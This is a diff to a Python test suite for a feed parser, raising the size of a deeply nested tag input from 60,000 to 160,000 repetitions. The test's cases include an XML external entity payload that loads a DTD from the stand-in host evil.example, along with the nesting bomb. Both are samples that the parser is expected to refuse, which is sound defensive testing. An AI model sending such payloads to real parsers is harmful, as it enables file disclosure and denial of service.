@@ -265,7 +265,7 @@ def test_a_feed_that_moved_for_good_is_named_with_the_remedy():
             b"<!DOCTYPE rss [<!ENTITY % x SYSTEM 'https://evil.example/x.dtd'> %x;]>" + rss("<title>A</title>"),
             "entities",
         ),
-        (b"<rss><channel>" + b"<item><b>" * 60_000, "no-feed"),
+        (b"<rss><channel>" + b"<item><b>" * 160_000, "no-feed"),
     ],
 )
 def test_what_is_no_feed_is_refused_with_the_reason(body: bytes, reason: str):
